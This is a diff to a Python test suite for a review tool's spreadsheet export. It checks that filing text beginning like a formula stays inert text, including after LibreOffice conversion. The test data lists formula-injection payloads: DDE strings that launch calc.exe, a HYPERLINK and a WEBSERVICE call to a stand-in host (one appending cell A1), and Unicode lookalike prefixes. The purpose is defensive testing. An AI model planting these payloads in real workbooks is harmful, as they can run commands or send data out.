@@ -1,5 +1,6 @@
 """Nothing that a filing prints or a user types can become a formula, a link or a control character."""
 
+import itertools
 import zipfile
 from io import BytesIO
 from pathlib import Path
@@ -18,6 +19,7 @@ from reviewer.core.review import Action, Wrong
 from reviewer.export.package import Finished, packed
 from reviewer.export.plain_text import LONGEST, defined_name, fit, header_text, put_text, sheet_name
 from tests.export.paper_of import NOON, checked, formulas, written
+from tests.export.recalculated import converted
 
 PREFIXES = (
     "=", "+", "-", "@", "\t", "\r", "\n", "＝", "﹦", "＋", "－", "＠", "'", '"', "\ufeff=", "\u200b=", "#",
@@ -68,9 +70,65 @@ def said_everywhere(text: str, path: Path) -> Workbook:
     for table, row, field in (("facts", "", "issuer"), ("repurchases", "class-b#1", "venue")):
         key = FieldKey("f1", table, row, field)
         review.act(text, Action.CORRECT, str(key), at=NOON, text=text, wrong=Wrong.MISPRINT, reason=text)
-    review.act(text, Action.NOTE, text, at=NOON, text=text, reason=text)
+    review.act(text, Action.NOTE, str(key), at=NOON, text=text, reason=text)
     checker.run()
     return written(review, checker, path)
+
+
+BEGIN_A_FORMULA = (*"=+-@", *"＝＋－＠", *"﹦﹢﹣﹫", *"⁼₌⩵᐀", *"⁺₊", *"−‐‑–—", "\t", "\r", "\n", "\r\n", "\v", "\0")
+IN_FRONT = (" ", "\u00a0", "\u3000", "\u200b", "\ufeff", "'", '"', '";', ",", "\n")
+PAYLOADS = (
+    "SUM(1,1)", "1+1", "cmd|' /C calc'!A0", 'MSEXCEL|"\\..\\..\\calc.exe"!""', "DDE(\"soffice\";\"a\";\"b\")",
+    'HYPERLINK("http://example.invalid/?"&A1,"open")', 'WEBSERVICE("http://example.invalid/")', "A1",
+)  # fmt: skip
+STARTS = (*BEGIN_A_FORMULA, *map("".join, itertools.product(IN_FRONT, "=+-@")))
+INJECTED = (
+    *(start + payload for start, payload in zip(STARTS, itertools.cycle(PAYLOADS))),
+    *("=" + payload for payload in PAYLOADS),
+    "#N/A", "TRUE", "1E5", "{=1+1}", "1/2", "00020", "=", "@", "'",
+)  # fmt: skip
+
+
+def test_libreoffice_makes_no_formula_of_a_text_and_changes_none(tmp_path: Path) -> None:
+    ours = injected(tmp_path / "book.xlsx")
+    out = converted(tmp_path, tmp_path / "book.xlsx")
+    theirs = load_workbook(out / "book.xlsx")
+    assert formulas(theirs) == formulas(ours)
+    told = texts(ours)
+    assert texts(theirs) == told
+    assert {fit(text) for text in INJECTED} <= set(told.values())
+
+
+def injected(path: Path) -> Workbook:
+    """A working paper in which issuers, file names, labels, corrections, reasons and notes begin like formulas."""
+    review, checker = checked()
+    issuer, box = FieldKey("f1", "facts", "", "issuer"), Box(0, 0, 1, 1)
+    keys = [FieldKey("f1", "facts", "", f"said_{number}") for number in range(len(INJECTED))]
+    readings = [
+        Reading(key, text, text, text, "text", Provenance(1, (box,)), doubt=text)
+        for key, text in zip(keys, INJECTED, strict=True)
+    ]
+    rows = tuple(GridRow(text, (key,)) for key, text in zip(keys, INJECTED, strict=True))
+    held = [*review.readings.values(), *readings]
+    grids = (*review.grids["f1"], Grid("f1", "T99", INJECTED[0], 1, box, INJECTED[:1], rows))
+    review.add_filing(review.filings["f1"], held, grids)
+    for number, begins in enumerate(BEGIN_A_FORMULA[:12]):
+        text = begins + PAYLOADS[0]
+        review.add_filing(
+            Filing(f"n{number}", text, f"{number:064}", 1, title=text, banner=text, complaints=(text,)), ()
+        )
+        review.act(text, Action.CORRECT, str(issuer), at=NOON, text=text, wrong=Wrong.MISPRINT, reason=text)
+    for key, text in zip(keys, INJECTED, strict=True):
+        review.act(text, Action.CORRECT, str(key), at=NOON, text=text, wrong=Wrong.MISPRINT, reason=text)
+        review.act(text, Action.NOTE, str(key), at=NOON, text=text)
+    checker.run()
+    return written(review, checker, path)
+
+
+def texts(book: Workbook) -> dict[tuple[str, str], str]:
+    """Sheet and cell of every text that is no formula, and what it says."""
+    cells = (cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
+    return {(cell.parent.title, cell.coordinate): cell.value for cell in cells if cell.data_type in ("s", "inlineStr")}
 
 
 def test_nothing_in_the_workbook_leads_out_of_it(tmp_path: Path) -> None:
